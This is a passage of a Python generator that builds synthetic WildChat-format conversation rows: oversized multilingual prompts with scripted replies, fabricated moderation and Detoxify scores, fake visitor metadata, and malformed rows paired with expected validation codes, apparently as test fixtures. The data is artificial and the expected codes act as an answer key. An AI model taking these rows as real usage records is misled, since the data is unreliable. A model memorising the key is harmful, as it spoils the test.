        title = REPORT_SECTIONS[(section - 1) % len(REPORT_SECTIONS)]
        parts.append(f"## {section}. {title}")
        for _ in range(rng.randint(2, 4)):
            sentences = []
            for template in rng.sample(REPORT_SENTENCES, rng.randint(3, 6)):
                sentences.append(
                    template.format(
                        quarter=f"Q{rng.randint(1, 4)} {rng.choice((2022, 2023))}",
                        region=rng.choice(("North", "South", "East", "West", "Central", "Coastal")),
                        moved=rng.choice(("rose", "fell", "increased", "decreased", "grew")),
                        pct=f"{rng.uniform(0.5, 24):.1f}",
                        team=rng.choice(
                            ("logistics", "support", "platform", "sales", "finance", "procurement")
                        ),
                        n=rng.randint(2, 40),
                        m=rng.randint(41, 900),
                        score=f"{rng.uniform(3.1, 4.8):.1f}",
                    )
                )
            parts.append(" ".join(sentences))
            parts.append("")
        total = sum(len(p) + 1 for p in parts)
    return "\n".join(parts).rstrip()


def csv_text(rng: random.Random, target: int) -> str:
    """A sales export of about ``target`` characters, with a few anomalies to find."""
    lines = ["date,region,product,units,unit_price,revenue"]
    total = len(lines[0])
    day = datetime(2023, 1, 1, tzinfo=UTC)
    products = {"Widget A": 9.99, "Widget B": 14.5, "Gadget Pro": 49.0, "Cable 2m": 4.25, "Stand": 19.9}
    while total < target:
        for region in ("North", "South", "East", "West"):
            product = rng.choice(sorted(products))
            units = rng.randint(0, 400)
            if rng.random() < 0.004:
                units = -units
            price = products[product]
            revenue = "" if rng.random() < 0.003 else f"{units * price:.2f}"
            line = f"{day:%Y-%m-%d},{region},{product},{units},{price:.2f},{revenue}"
            lines.append(line)
            if rng.random() < 0.003:
                lines.append(line)
            total += len(line) + 1
        day += timedelta(days=1)
    return "\n".join(lines)


def module_text(rng: random.Random, target: int) -> str:
    """A long Python module of small functions, one of which has a mutable default argument."""
    names = ("temperature", "pressure", "humidity", "voltage", "latency", "throughput", "altitude", "speed")
    parts = ['"""Sensor helpers for the ingestion pipeline."""', "", "from __future__ import annotations", ""]
    total = 0
    i = 0
    bug_at = rng.randint(8, 20)
    while total < target:
        i += 1
        name = f"{names[i % len(names)]}_{i}"
        if i == bug_at:
            parts.append(
                f"def collect_{name}(reading: float, bucket: list[float] = []) -> list[float]:\n"
                f'    """Append a {name} reading to the current bucket."""\n'
                "    bucket.append(reading)\n"
                "    return bucket\n"
            )
        else:
            scale = rng.choice((1.0, 10.0, 100.0))
            parts.append(
                f"def normalize_{name}(values: list[float], scale: float = {scale}) -> list[float]:\n"
                f'    """Scale {name} readings into the 0..{scale:g} range."""\n'
                "    if not values:\n"
                "        return []\n"
                "    lo, hi = min(values), max(values)\n"
                "    span = (hi - lo) or 1.0\n"
                f"    return [round((v - lo) / span * scale, {rng.randint(1, 4)}) for v in values]\n"
            )
        parts.append("")
        total = sum(len(p) + 1 for p in parts)
    return "\n".join(parts).rstrip() + "\n"


def json_text(rng: random.Random, target: int) -> str:
    """A pretty-printed API response of about ``target`` characters."""
    records: list[dict[str, Any]] = []
    total = 0
    while total < target:
        n = len(records) + 1
        record = {
            "id": n,
            "sku": f"SKU-{rng.randint(10000, 99999)}",
            "title": rng.choice(("Desk lamp", "Notebook", "Backpack", "Water bottle", "Headphones")),
            "price": {"amount": round(rng.uniform(3, 250), 2), "currency": rng.choice(("EUR", "USD"))},
            "tags": rng.sample(["new", "sale", "eco", "bestseller", "limited", "bundle"], rng.randint(0, 3)),
            "stock": None if rng.random() < 0.05 else rng.randint(0, 500),
            "updated_at": f"2024-0{rng.randint(1, 3)}-{rng.randint(10, 28)}T{rng.randint(10, 23)}:00:00Z",
        }
        records.append(record)
        total += len(json.dumps(record, indent=2)) + 4
    return json.dumps({"page": 1, "total": len(records), "items": records}, indent=2, ensure_ascii=False)


ZH_REPORT: tuple[str, ...] = (
    "{year}年第{q}季度，{region}区域的销售额同比{dir}{pct}%。",
    "{team}团队本季度共完成{n}个项目，另有{m}个项目正在推进中。",
    "客户满意度调查共回收问卷{m}份，平均得分为{score}分。",
    "由于原材料价格波动，{region}工厂的单位成本{dir}{pct}%。",
    "本季度新增员工{n}人，离职率为{pct}%。",
    "{team}部门建议在下一季度优化审批流程，缩短交付周期。",
    "线上渠道的订单占比达到{pct}%，较去年同期明显提升。",
    "部分供应商交货延迟{n}天以上，对生产计划造成了一定影响。",
    "公司在{region}地区试点了新的会员制度，参与用户超过{m}人。",
    "能源消耗同比{dir}{pct}%，节能改造初见成效。",
)


def chinese_report_text(rng: random.Random, target: int) -> str:
    """A long Chinese business report of about ``target`` characters."""
    parts = ["# 年度经营情况报告", ""]
    total = 0
    section = 0
    titles = (
        "总体情况",
        "市场分析",
        "区域表现",
        "生产运营",
        "人力资源",
        "财务状况",
        "风险提示",
        "下一步计划",
    )
    while total < target:
        section += 1
        parts.append(f"## {section}、{titles[(section - 1) % len(titles)]}")
        for _ in range(rng.randint(2, 4)):
            sentences = [
                t.format(
                    year=rng.choice((2022, 2023)),
                    q=rng.randint(1, 4),
                    region=rng.choice(("华东", "华南", "华北", "西南", "东北")),
                    dir=rng.choice(("增长", "下降")),
                    pct=f"{rng.uniform(0.5, 30):.1f}",
                    team=rng.choice(("销售", "研发", "物流", "客服", "采购")),
                    n=rng.randint(2, 40),
                    m=rng.randint(50, 900),
                    score=f"{rng.uniform(3.2, 4.9):.1f}",
                )
                for t in rng.sample(ZH_REPORT, rng.randint(3, 6))
            ]
            parts.append("".join(sentences))
            parts.append("")
        total = sum(len(p) + 1 for p in parts)
    return "\n".join(parts).rstrip()


DE_MINUTES: tuple[str, ...] = (
    "Der Vorstand berichtet, dass der Verein derzeit {m} Mitglieder hat.",
    "Die Kasse weist einen Bestand von {m} Euro auf; die Kassenprüfung ergab keine Beanstandungen.",
    "Für das Sommerfest am {day}. Juli werden noch {n} Helferinnen und Helfer gesucht.",
    "Die Sanierung des Vereinsheims soll bis Ende {month} abgeschlossen sein.",
    "Der Antrag auf Erhöhung des Jahresbeitrags um {n} Euro wurde mit {m} Stimmen angenommen.",
    "Die Jugendabteilung meldet {n} neue Anmeldungen seit der letzten Sitzung.",
    "Es wird angeregt, die Trainingszeiten am Mittwoch um eine Stunde nach hinten zu verschieben.",
    "Die Versammlung dankt dem Platzwart für seinen langjährigen Einsatz.",
    "Die nächste Sitzung findet am {day}. {month} um 19 Uhr im Vereinsheim statt.",
)


def german_minutes_text(rng: random.Random, target: int) -> str:
    """Long German club meeting minutes of about ``target`` characters."""
    months = ("Januar", "Februar", "März", "April", "Mai", "Juni", "September", "Oktober", "November")
    parts: list[str] = []
    total = 0
    meeting = 0
    while total < target:
        meeting += 1
        parts.append(f"Protokoll der Vorstandssitzung Nr. {meeting}")
        for top in range(1, rng.randint(4, 7)):
            sentences = [
                t.format(
                    m=rng.randint(40, 900),
                    n=rng.randint(2, 30),
                    day=rng.randint(1, 28),
                    month=rng.choice(months),
                )
                for t in rng.sample(DE_MINUTES, rng.randint(2, 4))
            ]
            parts.append(f"TOP {top}: " + " ".join(sentences))
        parts.append("")
        total = sum(len(p) + 1 for p in parts)
    return "\n".join(parts).rstrip()


def long_turn(rng: random.Random, kind: str, language: str, target: int) -> tuple[str, str]:
    """A prompt of roughly ``target`` characters (longer than any context window) and a short reply."""
    if kind == "log" and language == "English":
        body = log_text(rng, target)
        prompt = (
            "Our checkout service keeps crashing every night around 2am. Here is the full log from last "
            f"night, can you tell me what's going on?\n\n```\n{body}\n```"
        )
        answer = (
            "The log shows a chain reaction:\n\n1. **Slow queries** start piling up and the connection "
            "pool fills (`waiting` keeps growing).\n2. The payment gateway then times out, and retries "
            "add even more load.\n3. Finally the database refuses new connections (`remaining "
            "connection slots are reserved`) and the heap runs out.\n\nStart with the slow `orders` "
            "query (add an index on `customer_id`), cap the retries with backoff, and size the pool "
            "below the database's `max_connections`."
        )
    elif kind == "log":
        body = log_text(rng, target)
        prompt = f"Сервер падает каждую ночь, вот полный лог. Что не так?\n\n{body}\n\nПомогите пожалуйста!!"
        answer = (
            "По логу видна цепочка проблем:\n\n1. Медленные запросы к таблице `orders` занимают "
            "соединения, пул переполняется.\n2. Платёжный шлюз начинает отвечать по таймауту, повторные "
            "попытки увеличивают нагрузку.\n3. В итоге база отказывает в подключениях и заканчивается "
            "память.\n\nНачните с индекса по `customer_id`, ограничьте число повторов и размер пула."
        )
    elif kind == "doc" and language == "English":
        body = report_text(rng, target)
        prompt = (
            f"Please summarize the following report in 5 bullet points and list the main risks:\n\n{body}"
        )
        answer = (
            "**Summary**\n\n- Revenue moved unevenly across regions; no region grew every quarter.\n"
            "- Delivery times and supplier lead times were the main operational pain points.\n"
            "- Customer satisfaction stayed roughly between 3 and 5 out of 5.\n- Several teams still "
            "have open positions.\n- Energy use per unit improved after the retrofit.\n\n**Main risks:** "
            "volatile supplier lead times, churn among small business customers, and inventory "
            "write-offs on seasonal goods."
        )
    elif kind == "doc" and language == "Chinese":
        body = chinese_report_text(rng, target)
        prompt = f"请帮我总结下面这份报告的要点，并指出存在的问题：\n\n{body}"
        answer = (
            "**报告要点：**\n\n1. 各区域销售额有增有降，整体波动较大。\n2. 线上渠道占比持续提升。\n"
            "3. 节能改造初见成效。\n\n**存在的问题：**\n\n- 部分供应商交货延迟，影响生产计划。\n"
            "- 原材料价格波动导致成本上升。\n- 部分团队人员流动较大。"
        )
    elif kind == "doc":
        body = german_minutes_text(rng, target)
        prompt = (
            "Kannst du diesen Text zusammenfassen? Das sind die Protokolle unserer Vereinssitzungen:\n\n"
            f"{body}"
        )
        answer = (
            "Kurz zusammengefasst:\n\n- Die Mitgliederzahl und die Kasse sind stabil.\n- Für das "
            "Sommerfest werden Helfer gesucht.\n- Die Sanierung des Vereinsheims läuft.\n- Über den "
            "Jahresbeitrag und die Trainingszeiten wurde mehrfach abgestimmt."
        )
    elif kind == "csv":
        body = csv_text(rng, target)
        prompt = (
            f"Here is our sales export. Which region grew the most, and are there any anomalies?\n\n{body}"
        )
        answer = (
            "I can't run code on the file, but a few things stand out:\n\n| Check | Finding |\n|---|---|\n"
            "| Negative units | A handful of rows have negative `units`, probably returns |\n"
            "| Missing revenue | Some rows have an empty `revenue` field |\n| Duplicates | Several "
            "identical consecutive rows |\n\nTo compare growth, group by region and month:\n\n```python\n"
            'import pandas as pd\n\ndf = pd.read_csv("sales.csv", parse_dates=["date"])\n'
            'monthly = df.groupby(["region", df.date.dt.to_period("M")])["revenue"].sum()\n'
            "print(monthly.unstack(0).pct_change().mean())\n```"
        )
    elif kind == "code":
        body = module_text(rng, target)
        prompt = (
            f"Find the bug in this module, the tests pass locally but fail in CI:\n\n```python\n{body}```"
        )
        answer = (
            "The bug is the function with a **mutable default argument** (`bucket: list[float] = []`). "
            "The list is created once, when the function is defined, so readings leak between calls "
            "and between tests; the order tests run in on CI changes the result.\n\n```python\n"
            "def collect(reading: float, bucket: list[float] | None = None) -> list[float]:\n"
            "    bucket = [] if bucket is None else bucket\n    bucket.append(reading)\n"
            "    return bucket\n```"
        )
    else:
        body = json_text(rng, target)
        prompt = f"Here's the API response, write me TypeScript types for it:\n\n```json\n{body}\n```"
        answer = (
            '```ts\ninterface Price {\n  amount: number;\n  currency: "EUR" | "USD";\n}\n\n'
            "interface Item {\n  id: number;\n  sku: string;\n  title: string;\n  price: Price;\n"
            "  tags: string[];\n  stock: number | null;\n  updated_at: string; // ISO 8601\n}\n\n"
            "interface ItemsResponse {\n  page: number;\n  total: number;\n  items: Item[];\n}\n```\n\n"
            "Note that `stock` can be `null` in some items."
        )
    return prompt, answer


# ---------------------------------------------------------------------------
# Conversation plans
# ---------------------------------------------------------------------------

#: (language, kind of document, characters): prompts far beyond any context window.
LONG_SPECS: tuple[tuple[str, str, int], ...] = (
    ("English", "log", 21_500),
    ("English", "doc", 118_000),
    ("English", "csv", 46_000),
    ("English", "code", 33_000),
    ("English", "json", 64_000),
    ("Chinese", "doc", 38_000),
    ("Russian", "log", 82_000),
    ("German", "doc", 27_000),
)
HTML_LANGUAGES: tuple[str, ...] = ("English",) * 11 + ("Chinese", "Chinese", "Russian", "Russian", "Spanish")
EMOJI_LANGUAGES: tuple[str, ...] = ("English",) * len(ENGLISH.emoji) + (
    "Japanese",
    "Japanese",
    "Korean",
    "Spanish",
    "Portuguese",
)
#: How many conversations have each number of user turns: most 1-3, some 4-10, a few up to 25.
TURN_COUNTS: dict[int, int] = {
    1: 150,
    2: 60,
    3: 40,
    4: 16,
    5: 14,
    6: 10,
    7: 8,
    8: 8,
    9: 7,
    10: 7,
    11: 2,
    12: 2,
    13: 1,
    14: 1,
    15: 2,
    16: 1,
    18: 1,
    20: 2,
    22: 1,
    23: 1,
    25: 2,
}
N_TOXIC = 20
N_REDACTED = 17
N_END_ON_USER = 34
N_MIXED = 18
N_EMPTY_ANSWER = 5


@dataclass
class Plan:
    """What one sample conversation will contain, decided before any text is composed."""

    language: str
    kind: str
    turns: int = 1
    variant: int = 0
    hostiles: tuple[str, ...] = ()
    long_kind: str = ""
    long_chars: int = 0
    mixed_with: str | None = None
    switch_at: int | None = None
    toxic: bool = False
    redacted: bool = False
    end_on_user: bool = False
    empty_answer: bool = False


def kind_weights(language: str) -> dict[str, int]:
    """How often each kind of conversation starts in a language."""
    if language == "English":
        return {"chat": 60, "code": 22, "table": 9, "story": 9}
    if language in ("Chinese", "Russian"):
        return {"chat": 60, "code": 28, "story": 12}
    if language == "Spanish":
        return {"chat": 75, "code": 15, "story": 10}
    return {"chat": 80, "code": 20}


def make_plans(rng: random.Random) -> list[Plan]:
    """Decide languages, kinds, turn counts and flags for every sample conversation."""
    remaining = dict(LANGUAGE_COUNTS)
    assert sum(remaining.values()) == N_CONVERSATIONS == sum(TURN_COUNTS.values())
    pool = [turns for turns, count in TURN_COUNTS.items() for _ in range(count)]
    rng.shuffle(pool)

    def take(limit: int) -> int:
        return pool.pop(next(i for i, v in enumerate(pool) if v <= limit))

    plans: list[Plan] = []
    for language, long_kind, chars in LONG_SPECS:
        plans.append(Plan(language, "long", take(2), long_kind=long_kind, long_chars=chars))
    for j, language in enumerate(HTML_LANGUAGES):
        hostiles = tuple(h for i, h in enumerate(HOSTILE_HTML) if i % len(HTML_LANGUAGES) == j)
        plans.append(Plan(language, "html", take(3), hostiles=hostiles))
    seen: Counter[str] = Counter()
    for language in EMOJI_LANGUAGES:
        plans.append(Plan(language, "emoji", take(3), variant=seen[language]))
        seen[language] += 1
    for plan in plans:
        remaining[plan.language] -= 1
    for language, count in remaining.items():
        for _ in range(count):
            turns = pool.pop()
            weights = kind_weights(language)
            if turns >= 6 and "story" in weights and rng.random() < 0.5:
                kind = "story"
            else:
                kind = rng.choices(list(weights), list(weights.values()))[0]
            plans.append(Plan(language, kind, turns))
    assert not pool

    ordinary = [p for p in plans if p.kind not in ("long", "html", "emoji")]
    for plan in rng.sample([p for p in ordinary if p.turns >= 2], N_MIXED):
        plan.mixed_with = (
            rng.choice(("Chinese", "Spanish", "Russian", "French"))
            if plan.language == "English"
            else "English"
        )
        plan.switch_at = rng.randint(1, plan.turns - 1)
    not_long = [p for p in plans if p.kind != "long"]
    for plan in rng.sample(not_long, N_TOXIC):
        plan.toxic = True
    for plan in rng.sample([p for p in not_long if not p.toxic], N_REDACTED):
        plan.redacted = True
    for plan in rng.sample(plans, N_END_ON_USER):
        plan.end_on_user = True
    candidates = [p for p in not_long if not p.toxic and (p.turns >= 2 or not p.end_on_user)]
    for plan in rng.sample(candidates, N_EMPTY_ANSWER):
        plan.empty_answer = True

    rng.shuffle(plans)
    # Keep the first rows short and ordinary, so that a quick demo on the first few rows stays quick.
    late = [i for i in range(40, len(plans)) if plans[i].kind not in ("long",) and plans[i].turns <= 3]
    for i in range(40):
        if plans[i].kind == "long" or plans[i].turns > 10:
            j = late.pop(rng.randrange(len(late)))
            plans[i], plans[j] = plans[j], plans[i]
    return plans


def compose_turns(plan: Plan, rng: random.Random) -> list[Turn]:
    """Compose the text of every turn of a planned conversation."""
    state = ConversationState()
    turns: list[Turn] = []
    for t in range(plan.turns):
        switched = plan.switch_at is not None and t >= plan.switch_at
        language = plan.mixed_with if switched and plan.mixed_with else plan.language
        bank = BANKS[language]
        answer_language = language
        if t == 0 or t == plan.switch_at:
            if plan.kind == "long":
                user, answer = long_turn(rng, plan.long_kind, language, plan.long_chars)
            elif plan.kind == "html" and t == 0:
                user, answer = html_turn(rng, bank, plan.hostiles)
            elif plan.kind == "emoji" and t == 0:
                user, answer = fill(bank.emoji[plan.variant], rng, bank)
            elif plan.kind == "code":
                state.code_task = next_code_task(rng, state)
                state.code_tasks_used.append(state.code_task)
                user, answer = code_turn(rng, bank, state.code_task)
            elif plan.kind == "table" and t == 0:
                option = rng.choice(COMPARISONS)
                user = rng.choice(TABLE_PROMPTS).format(a=option["a"], b=option["b"].lower())
                answer = (
                    f"Here's a side-by-side comparison:\n\n| Aspect | {option['a']} | {option['b']} |\n"
                    f"|---|---|---|\n{option['rows']}\n\n**Bottom line:** {option['verdict']}"
                )
            elif plan.kind == "story" and bank.story:
                user, answer = story_opening(rng, bank, state)
            else:
                user, answer, answer_language = chat_turn(rng, bank, state, greet=t == 0)
        elif state.greeted:
            state.greeted = False
            user, answer, answer_language = chat_turn(rng, bank, state, greet=False)
        elif plan.kind == "code" and rng.random() < 0.5:
            state.code_task = next_code_task(rng, state)
            state.code_tasks_used.append(state.code_task)
            user, answer = code_turn(rng, bank, state.code_task)
            if bank.name == "English" and rng.random() < 0.5:
                user = f"another question: {user}"
        elif plan.kind == "story" and bank.story_sentences and state.story_name:
            user, answer = story_more(rng, bank, state)
        else:
            user, answer = fill(rng.choice(bank.followups), rng, bank, prev=state.prev)
        state.prev = answer
        turns.append(Turn(user, answer, language, answer_language))

    if plan.toxic:
        t = rng.randrange(len(turns))
        bank = BANKS[turns[t].user_language]
        hostile = rng.choice(bank.toxic)
        turns[t] = Turn(hostile.prompt, hostile.answer, bank.name, bank.name, toxic_category=hostile.category)
    if plan.redacted:
        t = 0 if rng.random() < 0.6 else rng.randrange(len(turns))
        bank = BANKS[turns[t].user_language]
        user, answer = fill(rng.choice(bank.redacted), rng, bank)
        turns[t] = Turn(user, answer, bank.name, bank.name, redacted=True)
    return turns


# ---------------------------------------------------------------------------
# Moderation scores
# ---------------------------------------------------------------------------

#: Each category's twin shares one score: ``self-harm/intent`` and ``self_harm_intent`` are the same thing.
CANONICAL: dict[str, str] = {name: name.replace("/", "_").replace("-", "_") for name in MODERATION_CATEGORIES}
CANONICAL_ORDER: tuple[str, ...] = tuple(dict.fromkeys(CANONICAL.values()))

#: Score ranges of the categories a flagged message triggers, by the category it offends.
FLAG_PROFILES: dict[str, dict[str, tuple[float, float]]] = {
    "harassment": {
        "harassment": (0.82, 0.99),
        "harassment_threatening": (0.08, 0.7),
        "violence": (0.01, 0.2),
    },
    "hate": {"hate": (0.78, 0.97), "harassment": (0.55, 0.9), "hate_threatening": (0.01, 0.1)},
    "violence": {"violence": (0.85, 0.99), "violence_graphic": (0.55, 0.92), "harassment": (0.01, 0.2)},
}
DETOX_PROFILES: dict[str, dict[str, tuple[float, float]]] = {
    "harassment": {
        "toxicity": (0.86, 0.99),
        "insult": (0.6, 0.96),
        "obscene": (0.2, 0.85),
        "threat": (0.01, 0.4),
        "severe_toxicity": (0.01, 0.12),
    },
    "hate": {
        "toxicity": (0.82, 0.98),
        "identity_attack": (0.6, 0.92),
        "insult": (0.4, 0.85),
        "severe_toxicity": (0.02, 0.15),
    },
    "violence": {"toxicity": (0.7, 0.95), "threat": (0.5, 0.9), "severe_toxicity": (0.01, 0.1)},
}


def moderation(rng: random.Random, category: str | None) -> tuple[dict[str, Any], dict[str, float]]:
    """One OpenAI moderation entry and one Detoxify entry; ``category`` makes the message flagged."""
    canonical = {name: 10 ** rng.uniform(-7.0, -3.2) for name in CANONICAL_ORDER}
    detox = {name: 10 ** rng.uniform(-4.5, -2.4) for name in DETOXIFY_FIELDS}
    if category is not None:
        for name, (low, high) in FLAG_PROFILES[category].items():
            canonical[name] = rng.uniform(low, high)
        for name, (low, high) in DETOX_PROFILES[category].items():
            detox[name] = rng.uniform(low, high)
    scores = {name: canonical[CANONICAL[name]] for name in MODERATION_CATEGORIES}
    categories = {name: score > 0.5 for name, score in scores.items()}
    entry = {"categories": categories, "category_scores": scores, "flagged": any(categories.values())}
    return entry, detox


# ---------------------------------------------------------------------------
# Rows
# ---------------------------------------------------------------------------


@dataclass
class User:
    """One (hashed) visitor; several conversations may come from the same one."""

    hashed_ip: str
    country: str | None
    state: str | None
    header: dict[str, str]


@dataclass
class RowBuilder:
    """Attach WildChat metadata (times, ids, users, moderation) to composed turns."""

    rng: random.Random
    next_turn_id: int = 100_000
    users: dict[str, list[User]] = field(default_factory=dict)
    user_count: int = 0

    def user(self, language: str) -> User:
        """A returning visitor now and then, otherwise a new one."""
        known = self.users.setdefault(language, [])
        if known and self.rng.random() < 0.25:
            return self.rng.choice(known)
        bank = BANKS[language]
        self.user_count += 1
        country, state = self.rng.choice(bank.places)
        header = {"accept-language": self.rng.choice(bank.accept), "user-agent": self.rng.choice(USER_AGENTS)}
        new = User(sha256_hex(f"{SEED}:visitor:{self.user_count}"), country, state, header)
        known.append(new)
        return new

    def turn_id(self) -> int:
        """A fresh, increasing turn identifier."""
        self.next_turn_id += self.rng.randint(1, 4000)
        return self.next_turn_id

    def row(self, index: int, plan: Plan, turns: Sequence[Turn]) -> dict[str, Any]:
        """The full WildChat row for one planned conversation."""
        rng = self.rng
        visitor = self.user(plan.language)
        span = int((LAST_DAY - FIRST_DAY).total_seconds())
        when = FIRST_DAY + timedelta(seconds=rng.randrange(span), microseconds=rng.randrange(1_000_000))
        model = pick_model(rng, when)
        empty_at = -1
        if plan.empty_answer:
            answered = len(turns) - (1 if plan.end_on_user else 0)
            empty_at = rng.randrange(answered)
        messages: list[dict[str, Any]] = []
        openai: list[dict[str, Any]] = []
        detoxify: list[dict[str, float]] = []
        last = when
        for t, turn in enumerate(turns):
            if t:
                when = last + timedelta(seconds=rng.randint(20, 900), microseconds=rng.randrange(1_000_000))
            turn_id = self.turn_id()
            messages.append(
                {
                    "content": turn.user,
                    "role": "user",
                    "language": turn.user_language,
                    "redacted": turn.redacted,
                    "toxic": turn.toxic_category is not None,
                    "turn_identifier": turn_id,
                    "timestamp": when,
                    "country": visitor.country,
                    "state": visitor.state,
                    "hashed_ip": visitor.hashed_ip,
                    "header": dict(visitor.header),
                }
            )
            entry, detox = moderation(rng, turn.toxic_category)
            openai.append(entry)
            detoxify.append(detox)
            last = when
            if plan.end_on_user and t == len(turns) - 1:
                break
            answer_time = None
            if rng.random() < 0.3:
                answer_time = when + timedelta(
                    seconds=rng.randint(2, 60), microseconds=rng.randrange(1_000_000)
                )
                last = answer_time
            answer = "" if t == empty_at else turn.answer
            messages.append(
                {
                    "content": answer,
                    "role": "assistant",
                    "language": turn.answer_language,
                    "redacted": turn.redacted and "NAME_" in answer,
                    "toxic": False,
                    "turn_identifier": turn_id,
                    "timestamp": answer_time,
                    "country": None,
                    "state": None,
                    "hashed_ip": None,
                    "header": None,
                }
            )
            entry, detox = moderation(rng, None)
            openai.append(entry)
            detoxify.append(detox)
        for message in messages:
            assert tuple(message) == MESSAGE_FIELDS
        row = {
            "conversation_hash": md5_hex(f"{SEED}:conversation:{index}"),
            "model": model,
            "timestamp": last,
            "conversation": messages,
            "turn": sum(1 for m in messages if m["role"] == "user"),
            "language": plan.language,
            "openai_moderation": openai,
            "detoxify_moderation": detoxify,
            "toxic": any(m["toxic"] for m in messages) or any(e["flagged"] for e in openai),
            "redacted": any(m["redacted"] for m in messages),
            "state": visitor.state,
            "country": visitor.country,
            "hashed_ip": visitor.hashed_ip,
            "header": dict(visitor.header),
        }
        assert tuple(row) == ROW_FIELDS
        return row


def md5_hex(text: str) -> str:
    """32 lowercase hex characters."""
    return hashlib.md5(text.encode("utf-8")).hexdigest()


def sha256_hex(text: str) -> str:
    """64 lowercase hex characters."""
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def pick_model(rng: random.Random, when: datetime) -> str:
    """The GPT checkpoint WildChat used at that time."""
    choices = MODEL_PERIODS[0][1]
    for start, period_choices in MODEL_PERIODS:
        if when >= start:
            choices = period_choices
    names = [name for name, _ in choices]
    return rng.choices(names, [weight for _, weight in choices])[0]


def build_sample() -> list[dict[str, Any]]:
    """All rows of ``wildchat_sample.parquet``."""
    plans = make_plans(random.Random(f"{SEED}:plans"))
    builder = RowBuilder(random.Random(f"{SEED}:metadata"))
    rows = []
    for index, plan in enumerate(plans):
        turns = compose_turns(plan, random.Random(f"{SEED}:text:{index}"))
        rows.append(builder.row(index, plan, turns))
    hashes = [row["conversation_hash"] for row in rows]
    assert len(set(hashes)) == len(hashes)
    return rows


# ---------------------------------------------------------------------------
# Malformed WildChat rows
# ---------------------------------------------------------------------------

Expected = dict[str, Any]


def plain_row(
    conversation_hash: str | None,
    messages: Sequence[tuple[str | None, str | None]],
    when: datetime,
    language: str = "English",
    rng: random.Random | None = None,
) -> dict[str, Any]:
    """A WildChat-schema row with the given (role, content) messages and plausible metadata."""
    rng = rng or random.Random(f"{SEED}:plain:{conversation_hash}")
    visitor_ip = sha256_hex(f"{SEED}:malformed-visitor:{conversation_hash}")
    header = {"accept-language": "en-US,en;q=0.9", "user-agent": USER_AGENTS[0]}
    quiet, quiet_detox = moderation(rng, None)
    rows: list[dict[str, Any]] = []
    turn_id = 900_000
    last = when
    for i, (role, content) in enumerate(messages):
        is_user = role == "user"
        if is_user or i == 0:
            turn_id += 1
        stamp = when + timedelta(seconds=30 * i) if role != "assistant" else None
        last = stamp or last
        rows.append(
            {
                "content": content,
                "role": role,
                "language": language,
                "redacted": False,
                "toxic": False,
                "turn_identifier": turn_id,
                "timestamp": stamp,
                "country": "United States" if role != "assistant" else None,
                "state": "Oregon" if role != "assistant" else None,
                "hashed_ip": visitor_ip if role != "assistant" else None,
                "header": dict(header) if role != "assistant" else None,
            }
        )
    row = {
        "conversation_hash": conversation_hash,
        "model": "gpt-3.5-turbo-0613",
        "timestamp": last,
        "conversation": rows,
        "turn": sum(1 for m in rows if m["role"] == "user"),
        "language": language,
        "openai_moderation": [quiet] * len(rows),
        "detoxify_moderation": [quiet_detox] * len(rows),
        "toxic": False,
        "redacted": False,
        "state": "Oregon",
        "country": "United States",
        "hashed_ip": visitor_ip,
        "header": dict(header),
    }
    assert tuple(row) == ROW_FIELDS
    return row


def build_malformed() -> tuple[list[dict[str, Any]], list[Expected]]:
    """Rows covering every ``Invalid`` code a WildChat row can earn, with valid edge cases mixed in."""
    base = datetime(2023, 9, 14, 8, 30, tzinfo=UTC)
    rows: list[dict[str, Any]] = []
    expected: list[Expected] = []

    def add(
        reason: Invalid | None,
        why: str,
        conversation_hash: str | None,
        messages: Sequence[tuple[str | None, str | None]],
        language: str = "English",
    ) -> str | None:
        when = base + timedelta(hours=len(rows))
        rows.append(plain_row(conversation_hash, messages, when, language))
        expected.append(
            {"row": len(expected), "reason": None if reason is None else reason.value, "why": why}
        )
        return conversation_hash

    def key(name: str) -> str:
        return md5_hex(f"{SEED}:malformed:{name}")

    hi = [("user", "How do I boil an egg?"), ("assistant", "Put it in boiling water for 7-9 minutes.")]
    first_valid = add(None, "ordinary two-message conversation", key("valid-1"), hi)
    add(Invalid.MISSING_HASH, "conversation_hash is null", None, hi)
    add(Invalid.MISSING_HASH, "conversation_hash is the empty string", "", hi)
    shared = add(
        None,
        "valid; its hash is reused by a later row (this first occurrence stays valid)",
        key("valid-2"),
        [("user", "Name three primary colours."), ("assistant", "Red, yellow and blue.")],
    )
    add(
        Invalid.DUPLICATE_HASH,
        "reuses the hash of row 3 with a different conversation",
        shared,
        [("user", "What is the capital of Peru?"), ("assistant", "Lima.")],
    )
    add(Invalid.NO_USER_TURN, "empty conversation list", key("empty"), [])
    add(
        Invalid.NO_USER_TURN,
        "only assistant messages",
        key("assistant-only"),
        [("assistant", "Hello! How can I help?"), ("assistant", "Are you still there?")],
    )
    add(
        None,
        "valid edge: ends on a user message (odd length, last turn unanswered)",
        key("ends-on-user"),
        [
            ("user", "Tell me a joke."),
            ("assistant", "Why did the scarecrow win an award? He was outstanding in his field."),
            ("user", "another one"),
        ],
    )
    add(
        Invalid.ROLES_OUT_OF_ORDER,
        "assistant speaks first",
        key("assistant-first"),
        [("assistant", "Hi, I'm your assistant."), ("user", "Hi, what's 2 + 2?"), ("assistant", "4.")],
    )
    add(
        Invalid.ROLES_OUT_OF_ORDER,
        "two user messages in a row",
        key("user-user"),
        [("user", "Translate 'cat' into French."), ("user", "and 'dog'?"), ("assistant", "chat, chien")],
    )
    add(
        Invalid.ROLES_OUT_OF_ORDER,
        "two assistant messages in a row",
        key("assistant-assistant"),
        [
            ("user", "Give me a word that rhymes with 'moon'."),
            ("assistant", "Spoon."),
            ("assistant", "Or tune."),
            ("user", "thanks"),
        ],
    )
    add(
        Invalid.UNKNOWN_ROLE,
        "a message with role 'tool'",
        key("tool"),
        [
            ("user", "What's the weather in Oslo?"),
            ("tool", '{"temp_c": 4, "sky": "overcast"}'),
            ("assistant", "It's 4 °C and overcast in Oslo."),
        ],
    )
    add(
        Invalid.UNKNOWN_ROLE,
        "a message with role 'narrator'",
        key("narrator"),
        [
            ("user", "Let's play a story game."),
            ("assistant", "Great! You are in a dark cave."),
            ("narrator", "A torch flickers."),
            ("user", "I pick up the torch."),
        ],
    )
    add(
        Invalid.UNKNOWN_ROLE,
        "a 'system' message that is not the first message",
        key("late-system"),
        [
            ("user", "Summarise this article for me."),
            ("assistant", "Sure, please paste it."),
            ("system", "You are a pirate."),
            ("user", "Here it is: ..."),
        ],
    )
    add(
        None,
        "valid edge: a leading 'system' message, then user/assistant",
        key("leading-system"),
